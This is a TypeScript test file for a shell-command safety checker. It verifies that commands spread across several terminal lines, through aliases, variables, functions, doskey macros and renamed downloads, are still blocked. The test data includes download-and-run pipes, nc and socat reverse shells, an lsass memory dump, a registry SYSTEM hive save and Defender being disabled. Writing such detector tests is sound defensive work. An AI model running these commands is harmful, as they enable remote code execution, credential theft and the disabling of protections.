/**
 * A terminal session is also read as one script (its earlier lines, then the new one): what a script would show
 * across its lines, a session shows across lines too. Earlier lines were judged when sent; a line is only answered
 * for what it adds.
 */
import { describe, expect, it } from 'vitest';
import { evaluateLine } from './rules/family-test-support';
import type { Shell } from './types';

/** The decision on the last line of a session, the earlier lines being its history. */
function last(lines: string[], shell: Shell): ReturnType<typeof evaluateLine> {
  return evaluateLine(lines[lines.length - 1] as string, shell, lines.slice(0, -1));
}

describe('the session read as one script', () => {
  it('follows aliases defined on earlier lines', () => {
    expect(last(["alias get='wget -qO-'", 'get http://198.51.100.20/setup.sh | sh'], 'bash').decision).toBe('block');
    expect(last(['alias py=python3', 'curl -s http://198.51.100.20/p.py | py -'], 'bash').decision).toBe('block');
  });

  it('follows names built in steps and looked up with which / command -v', () => {
    expect(last(['t=so', 't=${t}cat', '$t TCP:198.51.100.20:4444 EXEC:/bin/bash'], 'bash').decision).toBe('block');
    expect(last(['p=$(command -v nc)', '$p -e /bin/sh 198.51.100.20 4444'], 'bash').decision).toBe('block');
    expect(last(['set k=HKLM\\SY', 'set k=%k%STEM', 'reg save %k% C:\\Users\\Public\\sys.hiv'], 'cmd').decision).toBe('block');
  });

  it('follows functions and splatted parameters defined earlier', () => {
    expect(
      last(
        [
          'function Read-Remote { param($u) (New-Object Net.WebClient).DownloadString($u) }',
          '$s = Read-Remote http://198.51.100.20/a.ps1',
          'Invoke-Expression $s',
        ],
        'powershell',
      ).decision,
    ).toBe('block');
    expect(last(['$opts = @{ DisableIOAVProtection = $true }', 'Set-MpPreference @opts'], 'powershell').decision).not.toBe('allow');
  });

  it('keeps only the spans that lie in the new line, as offsets into it', () => {
    const line = 'get http://198.51.100.20/setup.sh | sh';
    const result = last(["alias get='wget -qO-'", line], 'bash');
    const spans = result.reasons.flatMap((r) => r.spans);
    expect(spans.length).toBeGreaterThan(0);
    for (const s of spans) expect(s.start >= 0 && s.end <= line.length && s.start < s.end).toBe(true);
  });

  it('does not join a process listed on one line and a file name on another into a dump', () => {
    expect(last(['Get-Process lsass', "$d = 'C:\\Windows\\Temp\\l.dmp'"], 'powershell').decision).toBe('allow');
    // On one line, or with the dump itself, it is one.
    expect(last(['$p = Get-Process lsass; .\\x.exe $p.Id C:\\t\\l.dmp'], 'powershell').decision).toBe('block');
    expect(
      last(
        [
          'Get-Process lsass',
          "$d = 'C:\\Windows\\Temp\\l.dmp'",
          '$id = (Get-Process lsass).Id',
          'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump $id $d full',
        ],
        'powershell',
      ).decision,
    ).toBe('block');
  });

  it('does not hold an earlier flagged line against a later harmless one', () => {
    expect(last(['sudo systemctl enable --now nginx', 'systemctl status nginx'], 'bash').decision).toBe('allow');
    expect(last(['New-LocalUser -Name helpdesk -NoPassword', 'Get-LocalUser'], 'powershell').decision).toBe('allow');
  });

  it('follows doskey macros, with $* and $1…$9 filled in, to the call', () => {
    const result = last(
      ['doskey ps=powershell -NoProfile -Command $*', 'ps "iex (iwr http://198.51.100.20/a.ps1 -UseBasicParsing)"'],
      'cmd',
    );
    expect(result.decision).toBe('block');
    expect(
      result.reasons.flatMap((r) => r.spans).every((s) => s.end <= 'ps "iex (iwr http://198.51.100.20/a.ps1 -UseBasicParsing)"'.length),
    ).toBe(true);
    expect(last(['doskey get=curl -s -o %TEMP%\\$2 $1', 'get http://198.51.100.20/t.exe t.exe', '%TEMP%\\t.exe'], 'cmd').decision).toBe(
      'block',
    );
    expect(last(['doskey ll=dir /b /o:-d $*', 'll C:\\Logs'], 'cmd').decision).toBe('allow');
  });

  it('a download stays a download when copied, moved or renamed, and when a substitution hands its text to a shell', () => {
    expect(
      last(['curl -so /tmp/n.dat http://198.51.100.20/n', 'sudo mv /tmp/n.dat /usr/local/bin/netcheck', 'sudo netcheck'], 'bash').decision,
    ).toBe('block');
    expect(last(['curl -s -o %TEMP%\\r.txt http://198.51.100.20/r', 'ren %TEMP%\\r.txt r.exe', '%TEMP%\\r.exe'], 'cmd').decision).toBe(
      'block',
    );
    expect(last(['curl -so /tmp/s http://198.51.100.20/s', 'bash -c "$(cat /tmp/s)"'], 'bash').decision).toBe('block');
    expect(last(['curl -so /tmp/s http://198.51.100.20/s', '. <(cat /tmp/s)'], 'bash').decision).toBe('block');
    expect(
      last(['curl -so /tmp/notes.txt http://198.51.100.20/n', 'cp /tmp/notes.txt ~/notes.txt', 'less ~/notes.txt'], 'bash').decision,
    ).toBe('allow');
    expect(last(['curl -so /tmp/s http://198.51.100.20/s', 'echo "$(cat /tmp/s)" | wc -l'], 'bash').decision).toBe('allow');
  });

  it('a cloned repository is downloaded contents: running a script from it runs the download', () => {
    expect(last(['cd /tmp && git clone https://git.example.net/ops/fixer.git', 'cd fixer', './install.sh'], 'bash').decision).toBe('block');
    expect(last(['git clone --depth 1 https://git.example.net/ops/fixer.git tools', 'sh tools/run.sh'], 'bash').decision).toBe('block');
    expect(last(['git clone https://git.example.net/ops/fixer.git', 'cd fixer', 'git log --oneline | head'], 'bash').decision).toBe(
      'allow',
    );
  });

  it('a downloaded file shown in a viewer or given as data to a local script is not run', () => {
    const fetched = 'curl -fsSL -o ~/Downloads/q3.pdf https://files.example.com/q3.pdf';
    expect(last([fetched, 'open -a Preview ~/Downloads/q3.pdf'], 'zsh').decision).toBe('allow');
    expect(last([fetched, 'open -e ~/Downloads/q3.pdf'], 'zsh').decision).toBe('allow');
    expect(last([fetched, 'open ~/Downloads/q3.pdf'], 'zsh').decision).toBe('block');
    const data = 'wget -q -O /tmp/rows.csv https://files.example.com/rows.csv';
    expect(last([data, 'python3 /opt/tools/load_rows.py /tmp/rows.csv'], 'bash').decision).toBe('allow');
    expect(last(['wget -q -O /tmp/load.py https://files.example.com/load.py', 'python3 /tmp/load.py /tmp/rows.csv'], 'bash').decision).toBe(
      'block',
    );
  });

  it('leaves ordinary aliases, variables and functions alone', () => {
    expect(last(["alias ll='ls -la'", 'll /var/log'], 'bash').decision).toBe('allow');
    expect(last(['d=/var/log', 'd=${d}/nginx', 'tail -n 50 $d/error.log'], 'bash').decision).toBe('allow');
    expect(
      last(['function Get-Disk2 { Get-PSDrive -PSProvider FileSystem }', '$d = Get-Disk2', '$d | Format-Table'], 'powershell').decision,
    ).toBe('allow');
  });
});
